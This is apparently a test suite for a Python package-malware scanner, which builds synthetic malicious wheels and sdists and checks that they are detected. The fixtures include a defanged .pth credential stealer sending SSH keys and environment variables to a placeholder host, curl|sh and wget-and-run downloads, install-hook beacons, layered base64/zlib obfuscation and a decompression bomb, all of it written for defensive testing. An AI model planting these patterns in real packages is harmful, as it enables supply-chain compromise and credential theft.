"""End-to-end behaviour of the Python analyser on artifacts built in the test."""

from __future__ import annotations

import base64
import zlib

from scanner.analyzers.interface import Derived
from scanner.analyzers.python import ANALYZER
from scanner.model import Context, Metadata, Severity, VerdictLevel
from scanner.pipeline import ScanOptions, scan
from scanner.testing import sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

ONLY_PYTHON = ScanOptions(analyzers=(ANALYZER,))


def _wheel(files: dict, name: str = "demo", options: ScanOptions = ONLY_PYTHON):
    return scan(wheel_bytes(name, "1.0", files), options, filename=wheel_filename(name, "1.0"))


def _sdist(files: dict, name: str = "demo"):
    return scan(sdist_bytes(name, "1.0", files), ONLY_PYTHON, filename=sdist_filename(name, "1.0"))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def litellm_like_pth() -> str:
    """The 1.82.8 shape, defanged: .pth -> python -c -> base64 -> B64_SCRIPT -> exec -> steal."""
    stealer = ("import os, glob, requests\n"
               "keys = [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))]\n"
               "requests.post('https://models.example.invalid/upload',\n"
               "              data={'k': keys, 'env': dict(os.environ)})\n")
    second = f'import base64\nB64_SCRIPT = "{_b64(stealer)}"\nexec(base64.b64decode(B64_SCRIPT))\n'
    return ("import subprocess, sys; subprocess.Popen([sys.executable, \"-c\", "
            f"\"import base64; exec(base64.b64decode('{_b64(second)}'))\"])\n")


def test_litellm_style_pth_shows_the_whole_chain_to_the_network_sink() -> None:
    result = _wheel({"litellm_init.pth": litellm_like_pth(), "litellm/__init__.py": "x = 1\n"},
                    "litellm")
    assert result.verdict.level is VerdictLevel.MALICIOUS
    pth = [f for f in result.findings if f.rule == "python.startup.pth-exec"]
    assert len(pth) == 1 and pth[0].context is Context.STARTUP
    assert pth[0].severity is Severity.CRITICAL and pth[0].path == "litellm_init.pth"
    # The evidence walks every layer down to the exfiltration call.
    assert "python.exec.decoded-payload" in pth[0].evidence
    assert "python.flow.secret-to-network" in pth[0].evidence
    flows = [f for f in result.findings if f.rule == "python.flow.secret-to-network"]
    assert flows and all(f.context is Context.STARTUP for f in flows)
    deepest = flows[0]
    assert deepest.path.startswith("litellm_init.pth::decoded[")
    assert "python -c → base64 → exec → base64 → exec" in deepest.evidence
    assert "requests.post" in deepest.evidence and "ssh-keys (line 2)" in deepest.evidence


def test_decoded_payloads_are_handed_to_member_analysers() -> None:
    from scanner.analyzers.python import analyze
    from scanner.analyzers.python.engine import Engine

    class View:  # the analyser only needs texts, members, kind, roots and metadata
        texts = {"evil.pth": litellm_like_pth().encode()}
        members = ()
        kind = "wheel"
        sdist_root = None
        metadata = Metadata()

    out = analyze(View(), Engine())  # type: ignore[arg-type]
    derived = [d for d in out if isinstance(d, Derived)]
    assert len(derived) >= 3
    assert any(b"requests.post" in d.data and d.chain[-1] == "exec" for d in derived)
    assert all(d.context is Context.STARTUP for d in derived)


def test_five_layers_of_encoding_are_followed() -> None:
    code = "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
    for _ in range(5):
        blob = base64.b64encode(zlib.compress(code.encode())).decode()
        code = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    result = _sdist({"setup.py": code})
    deep = [f for f in result.findings if f.rule == "python.process.shell-download"]
    assert deep and deep[0].context is Context.INSTALL
    assert deep[0].evidence.count("zlib") == 5


def test_setup_py_cmdclass_and_local_module_run_at_install() -> None:
    setup = ("from setuptools import setup\nfrom setuptools.command.install import install\n"
             "from helpers import beacon\n"
             "class Post(install):\n    def run(self):\n        beacon()\n"
             "        install.run(self)\nsetup(name='demo', cmdclass={'install': Post})\n")
    helpers = ("import socket, requests\n"
               "def beacon():\n    requests.get('https://x.example.invalid', "
               "params={'h': socket.gethostname()})\n")
    result = _sdist({"setup.py": setup, "helpers.py": helpers})
    hook = [f for f in result.findings if f.rule == "python.install.hook"]
    assert hook and hook[0].path.endswith("setup.py")
    beacon = [f for f in result.findings if f.rule == "python.flow.fingerprint-to-network"]
    assert beacon and beacon[0].path.endswith("helpers.py")
    assert beacon[0].severity is Severity.HIGH
    assert result.verdict.level is not VerdictLevel.CLEAN


def test_backend_path_backend_runs_at_install() -> None:
    pyproject = ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                 'backend-path = ["_build"]\n')
    backend = "import os\nos.system('curl https://example.invalid/b | sh')\n"
    result = _sdist({"pyproject.toml": pyproject, "_build/backend.py": backend})
    found = [f for f in result.findings if f.rule == "python.process.shell-download"]
    assert found and found[0].context is Context.INSTALL


def test_functions_called_at_module_level_run_at_import() -> None:
    code = ("import subprocess\n"
            "def helper():\n    subprocess.Popen(['/tmp/.cache/agent'], start_new_session=True)\n"
            "def unused():\n    subprocess.Popen(['/tmp/.cache/other'])\n"
            "def main():\n    helper()\n"
            "main()\n")
    result = _wheel({"pkg/__init__.py": code})
    spawns = {f.line: f.context for f in result.findings if f.rule == "python.process.spawn"}
    assert spawns[3] is Context.IMPORT
    assert spawns[5] is Context.RUNTIME


def test_name_resolution_through_aliases_and_getattr() -> None:
    code = ("import importlib\nfrom os import system as s\n"
            "m = importlib.import_module('subpro' + 'cess')\n"
            "run = getattr(m, 'Po' + 'pen')\n"
            "run(['/tmp/x'])\n"
            "b = __builtins__\nb.exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\n")
    result = _wheel({"pkg/__init__.py": code})
    rules = {(f.rule, f.line) for f in result.findings}
    assert ("python.process.spawn", 5) in rules
    assert ("python.exec.decoded-payload", 7) in rules


def test_constant_folding_of_chr_lists_and_reversal() -> None:
    url = "https://discord.com/api/webhooks/1/x"
    chars = ", ".join(str(ord(c)) for c in url)
    code = f"U = ''.join(chr(c) for c in [{chars}])\nR = 'lave'[::-1]\n"
    code += "import requests\nrequests.post(U, json={'a': 1})\n"
    result = _wheel({"pkg/__init__.py": code})
    assert any(f.rule == "python.network.messenger" for f in result.findings)


def test_python2_setup_falls_back_to_tokens_and_still_finds_install_spawn() -> None:
    setup = ("import os\nprint 'installing'\n"
             "os.system('wget -q http://203.0.113.5/x -O /tmp/x; sh /tmp/x')\n")
    result = _sdist({"setup.py": setup})
    rules = {f.rule: f for f in result.findings}
    assert "python.parse.fallback" in rules
    assert rules["python.parse.fallback"].severity is Severity.LOW
    shell = rules["python.process.shell-download"]
    assert shell.context is Context.INSTALL and "token-level" in shell.message
    assert result.verdict.level is not VerdictLevel.CLEAN


def test_pep263_encoding_is_honoured() -> None:
    source = "# -*- coding: latin-1 -*-\nimport os\nNAME = 'caf\xe9'\nos.system('id')\n"
    result = _sdist({"setup.py": source.encode("latin-1")})
    assert not any(f.rule == "python.parse.fallback" for f in result.findings)
    assert any(f.rule == "python.process.spawn" for f in result.findings)


def test_hostile_inputs_never_crash() -> None:
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    nul = "import os\x00\nos.system('id')\n"
    bomb = base64.b64encode(zlib.compress(b"A" * (20 * 1024 * 1024))).decode()
    files = {"pkg/deep.py": deep, "pkg/nul.py": nul, "pkg/bomb.py":
             f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n",
             "pkg/garbage.py": bytes(range(256)) * 50}
    result = _wheel(files)
    assert result.error is None
    assert not any(f.rule == "scanner.analyzer-error" for f in result.findings)


def test_benign_pth_files_stay_clean() -> None:
    files = {
        "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; "
        "enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); \n",
        "_distutils_hack/__init__.py": "import sys, os\ndef add_shim():\n"
        "    sys.meta_path.insert(0, None)\n",
        "nspkg-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
        "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('nspkg',));"
        "importlib = has_mfs and __import__('importlib.util')\n",
        "paths.pth": "../shared\n# comment\n",
    }
    result = _wheel(files, "setuptools")
    assert result.verdict.level is VerdictLevel.CLEAN, [f.to_dict() for f in result.findings]


def test_benign_build_and_version_patterns_stay_clean() -> None:
    setup = ("import os, subprocess, sys\nfrom setuptools import setup, Extension\n"
             "from setuptools.command.build_ext import build_ext\n"
             "exec(open(os.path.join('pkg', '_version.py')).read())\n"
             "class CMakeBuild(build_ext):\n    def build_extension(self, ext):\n"
             "        env = os.environ.copy()\n"
             "        subprocess.check_call(['cmake', ext.sourcedir], env=env)\n"
             "        subprocess.check_call(['cmake', '--build', '.'])\n"
             "setup(name='x', cmdclass={'build_ext': CMakeBuild})\n")
    result = _sdist({"setup.py": setup, "pkg/_version.py": "__version__ = '1.0'\n"})
    assert result.verdict.level is VerdictLevel.CLEAN, [f.to_dict() for f in result.findings]
